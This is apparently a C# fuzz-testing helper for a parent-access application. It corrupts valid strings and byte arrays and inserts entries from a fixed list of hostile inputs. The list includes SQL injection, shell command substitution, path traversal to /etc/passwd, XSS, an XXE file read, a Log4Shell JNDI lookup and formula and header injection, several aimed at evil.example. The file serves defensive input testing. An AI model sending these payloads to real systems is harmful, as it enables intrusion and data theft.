using System.Text;

namespace Klik.ParentAccess.Tests.BadInput;

/// <summary>Makes something broken or hostile of something good.</summary>
internal sealed class Spoiler(Dice dice)
{
    private static readonly string[] Hostile =
    [
        "", " ", "\0", "\t", "\r\nSet-Cookie: klik=1", "\r\n\r\n<h1>", "%00", "%", "%zz", "%c0%ae%c0%ae%2f", "../../../../etc/passwd", "..\\..\\web.config", "....//",
        "//evil.example", "https://evil.example/", "/\\evil.example", "https:evil.example", "javascript:alert(1)", "data:text/html,x", "\\\\evil.example\\share",
        "' OR '1'='1", "\"; DROP TABLE students; --", "1; SELECT pg_sleep(9)", "$(sleep 9)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0}{1}{999}", "%s%n%x",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<!--", "]]>", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "NaN", "-1", "0", "1e999", "0x7fffffff", "2147483648", "-9223372036854775809", "99999999999999999999999", "1,5", "true", "null", "undefined", "[]", "{}", "[[[[[[",
        "0001-01-01", "9999-12-31", "2026-02-30", "31-12-9999", "2013-13-01", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "a@b", "a@@b", "@", "\"a b\"@example.nl", "jan@xn--", "jan@[127.0.0.1]", "jan@example.nl\r\nBcc: eve@evil.example", "jan@example.nl, eve@evil.example", "<jan@example.nl>",
        "\u202Enl.elpmaxe@naj", "\uFEFF", "\u200B\u200D", "\uFDFD", "\uFFFF", "İıſK", "e\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "𝕵𝖆𝖓", "ﬃ", "Ⅻ", "٣", "\u2028", "\uD83D", "\uDC00a",
        "0000-0000-0000-0000", "=HYPERLINK(\"https://evil.example\")", "CON", "con.csv", ".", "..", "*", "?", "#", "&", "a=b&c=d", ";", ",,,,", "\"", "'", "\\",
    ];

    /// <summary>Something hostile or long, or without any sense.</summary>
    public string Value() => dice.Below(10) switch
    {
        < 6 => dice.OneOf(Hostile),
        6 => string.Concat(Enumerable.Repeat(dice.OneOf(Hostile), 1 + dice.Below(50))),
        7 => new string((char)(33 + dice.Below(90)), 1 << dice.Below(15)),
        8 => Encoding.Unicode.GetString(dice.Bytes(2 * (1 + dice.Below(40)))),
        _ => Encoding.Latin1.GetString(dice.Bytes(1 + dice.Below(60))),
    };

    /// <summary>A good text, mostly with one thing wrong.</summary>
    public string Spoil(string good)
    {
        if (good.Length == 0)
        {
            return Value();
        }

        var at = dice.Below(good.Length);
        return dice.Below(9) switch
        {
            0 => good[..at],
            1 => good.Remove(at, 1),
            2 => good.Insert(at, dice.OneOf(Hostile)),
            3 => good[..at] + (char)(good[at] ^ (1 << dice.Below(7))) + good[(at + 1)..],
            4 => good + good,
            5 => good.ToUpperInvariant(),
            6 => good[at..] + good[..at],
            7 => good + dice.OneOf(Hostile),
            _ => Value(),
        };
    }

    /// <summary>Good bytes with a few things wrong.</summary>
    public byte[] Spoil(byte[] good)
    {
        var bytes = good;
        for (var i = 1 + dice.Below(4); i > 0 && bytes.Length > 0; i--)
        {
            bytes = SpoilOnce(bytes);
        }

        return bytes;
    }

    private byte[] SpoilOnce(byte[] bytes)
    {
        var at = dice.Below(bytes.Length);
        var count = Math.Min(1 + dice.Below(64), bytes.Length - at);
        switch (dice.Below(6))
        {
            case 0:
                return bytes[..at];
            case 1:
                return [.. bytes[..at], .. bytes[(at + count)..]];
            case 2:
                return [.. bytes[..at], .. dice.Bytes(count), .. bytes[at..]];
            case 3:
                return [.. bytes[..(at + count)], .. bytes[at..]];
            case 4:
                return [.. bytes[..at], .. Enumerable.Repeat(dice.Percent(50) ? (byte)0 : (byte)255, count), .. bytes[(at + count)..]];
            default:
                var copy = (byte[])bytes.Clone();
                copy[at] ^= (byte)(1 << dice.Below(8));
                return copy;
        }
    }
}
